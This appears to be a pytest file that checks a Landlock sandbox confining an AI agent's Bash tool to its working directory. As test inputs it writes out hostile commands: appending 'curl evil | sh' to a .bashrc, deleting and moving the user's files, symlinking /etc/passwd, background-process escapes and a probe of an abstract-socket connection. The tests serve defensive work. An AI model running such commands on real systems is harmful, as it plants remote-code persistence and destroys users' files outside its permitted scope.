"""A Bash command the person allowed writes nothing outside the turn's sandbox.

Bash ran with the person's rights: an allowed command (or one the model slipped into an allowed call) could create,
change, move or remove any file of theirs: `echo >> ~/.bashrc`, `rm`, a symlink planted elsewhere. Every other tool
was held inside the working directory; Bash was not (before: each write below succeeded). Its writes are now
confined by the kernel (Linux Landlock, `server/agent/tools/landlock.py`) to the working directory and a scratch
folder of its own (`TMPDIR`), for the command and everything it starts; reading is not restricted, nor are a file's
times and mode (`touch -d`, `chmod`: Landlock does not cover them).
`SESSION_LSP_BASH_SANDBOX=off` (the server's environment) runs commands unconfined, as the person's choice.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from server.agent.tools import ToolContext, make_tools
from server.agent.tools import bash as bash_tool
from server.agent.tools.base import ToolError
from server.agent.tools.runner import ToolCall, run_calls


@pytest.fixture
def places(tmp_path: Path) -> dict[str, Path]:
    """A working directory, and beside it a folder of the person's with a file and a shell profile."""
    work, home = tmp_path / "work", tmp_path / "home"
    work.mkdir()
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    (home / "notes.txt").write_text("keep me\n")
    return {"work": work, "home": home}


def bash(work: Path, command: str) -> tuple[str, bool]:
    out = run_calls([ToolCall("b", "Bash", {"command": command})], make_tools(["Bash"]), ToolContext(work))["b"]
    return out.content, out.is_error


def test_a_command_writes_nothing_outside_the_working_directory(places: dict[str, Path]) -> None:
    work, home = places["work"], places["home"]
    attempts = [
        f"echo 'curl evil | sh' >> {home}/.bashrc",
        f"echo new > {home}/planted.txt",
        f"rm -f {home}/notes.txt",
        f"mv {home}/notes.txt {work}/taken.txt",
        f"ln -s /etc/passwd {home}/link",
        f"mkdir {home}/made",
    ]
    if bash_tool.landlock.abi() >= 3:  # truncation is Landlock's from ABI 3 (Linux 6.2)
        attempts.append(f"truncate -s 0 {home}/notes.txt")
    for command in attempts:
        text, failed = bash(work, command)
        assert failed and "denied" in text.lower(), (command, text)
        assert text.endswith(bash_tool.CONFINED_HINT), text  # the model and the person are told why
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", "notes.txt"]
    assert (home / ".bashrc").read_text() == "# mine\n" and (home / "notes.txt").read_text() == "keep me\n"


def test_inside_the_working_directory_and_its_scratch_folder_a_command_works(places: dict[str, Path]) -> None:
    work, home = places["work"], places["home"]
    text, failed = bash(
        work,
        f"mkdir -p sub && echo ok > sub/f && mv sub/f sub/g && ln -s g sub/l && cat sub/l && "
        f'echo tmp > "$TMPDIR/x" && cat "$TMPDIR/x" && mktemp >/dev/null && echo quiet > /dev/null && '
        f"cat {home}/notes.txt && echo out > /dev/stdout && echo err > /dev/stderr",
    )
    assert not failed, text
    assert text.split("\n") == ["ok", "tmp", "keep me", "out", "err"], text
    assert (work / "sub" / "g").read_text() == "ok\n"


def test_the_confinement_holds_for_what_the_command_starts(places: dict[str, Path]) -> None:
    """A background job, a `setsid` child and another interpreter are confined as the command is."""
    work, home = places["work"], places["home"]
    bash(
        work,
        f"(setsid sh -c 'echo a > {home}/a' &); sh -c 'echo b > {home}/b' & "
        f"python3 -c \"open('{home}/c', 'w')\" ; wait; sleep 0.3",
    )
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", "notes.txt"]


def test_no_abstract_socket_of_another_domain(places: dict[str, Path]) -> None:
    """An abstract Unix socket made outside the command (an X server's, through which keystrokes reach a terminal)
    cannot be connected to from it (Landlock ABI 6); one the command makes itself can."""
    import socket

    if bash_tool.landlock.abi() < 6:
        pytest.skip("Landlock before ABI 6 cannot scope abstract sockets")  # never under CI's kernel (ABI 7)
    outside = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    name = f"session-lsp-test-{places['work'].name}-{id(outside)}"
    outside.bind("\0" + name)
    outside.listen(1)
    try:
        probe = (
            "import socket,sys\n"
            "s=socket.socket(socket.AF_UNIX,socket.SOCK_STREAM)\n"
            f"s.connect('\\0{name}')\n"
            "print('connected')\n"
        )
        (places["work"] / "probe.py").write_text(probe)
        text, failed = bash(places["work"], "python3 probe.py")
        assert failed and "connected" not in text, text
    finally:
        outside.close()


def test_off_by_the_persons_choice(places: dict[str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(bash_tool.SANDBOX_SETTING, "off")
    text, failed = bash(places["work"], f"echo mine > {places['home']}/chosen.txt")
    assert not failed, text
    assert (places["home"] / "chosen.txt").read_text() == "mine\n"


def test_no_landlock_no_bash(places: dict[str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the kernel offers no Landlock (stood in for here: this kernel has it), Bash is refused, naming the
    setting, rather than run unconfined."""
    monkeypatch.setattr(bash_tool.landlock, "abi", lambda: 0)
    with pytest.raises(ToolError, match=bash_tool.SANDBOX_SETTING):
        bash_tool.confined_writes(ToolContext(places["work"]), str(places["work"]))
    text, failed = bash(places["work"], f"echo x > {places['home']}/x")
    assert failed and "Landlock" in text and not (places["home"] / "x").exists()
